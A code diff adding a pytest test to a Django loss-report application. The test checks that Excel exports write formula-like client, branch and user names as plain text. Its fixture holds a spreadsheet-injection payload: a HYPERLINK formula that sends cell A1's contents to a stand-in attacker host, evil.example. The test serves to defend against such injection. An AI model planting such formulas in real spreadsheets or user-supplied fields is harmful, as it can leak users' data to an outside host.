@@ -8,6 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from lossdesk.core.testing import PASSWORD
+from lossdesk.core.tests.test_excel import assert_no_formulas
 from lossdesk.reports.statistics import available_statistics
 
 pytestmark = pytest.mark.django_db
@@ -171,3 +172,35 @@ def test_export_all_has_a_sheet_per_table_and_respects_the_scope(client, month):
     reports = list(book["报案统计"].iter_rows(min_row=2, values_only=True))
     assert [row[0] for row in reports] == ["宁波分公司", "合计"]
     assert reports[-1][1] == 1
+
+
+EVIL_CLIENT = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
+
+
+@pytest.mark.parametrize("url", ["reports:export", "reports:export-all"])
+def test_names_and_filters_that_look_like_formulas_are_exported_as_text(client, month, url):
+    """A client, a branch and the exporter named like formulas: text cells, no <f>."""
+    firm = month.firm
+    firm.client.short_name = EVIL_CLIENT
+    firm.client.save()
+    firm.hangzhou.name = "-1+2"
+    firm.hangzhou.save()
+    month.zhejiang_manager.full_name = "@SUM(1+1)"
+    month.zhejiang_manager.save()
+    login(client, "zjmanager")
+    args = ["reports"] if url == "reports:export" else []
+    response = client.get(
+        reverse(url, args=args), {**MARCH, "group_by": "client", "client": firm.client.pk}
+    )
+    book = _workbook(response)
+    assert_no_formulas(response.content)
+    sheet = book["报案统计"]
+    label = sheet.cell(2, 1)
+    assert (label.value, label.data_type, label.quotePrefix) == (EVIL_CLIENT, "s", True)
+    notes = {row[0].value: row[1] for row in book["说明"].iter_rows(min_row=2)}
+    assert (notes["委托方"].value, notes["委托方"].data_type) == (EVIL_CLIENT, "s")
+    assert (notes["导出人"].value, notes["导出人"].data_type) == ("@SUM(1+1)", "s")
+    by_branch = client.get(reverse(url, args=args), {**MARCH, "group_by": "branch"})
+    assert_no_formulas(by_branch.content)
+    branch = _workbook(by_branch)["报案统计"].cell(2, 1)
+    assert (branch.value, branch.data_type) == ("-1+2", "s")
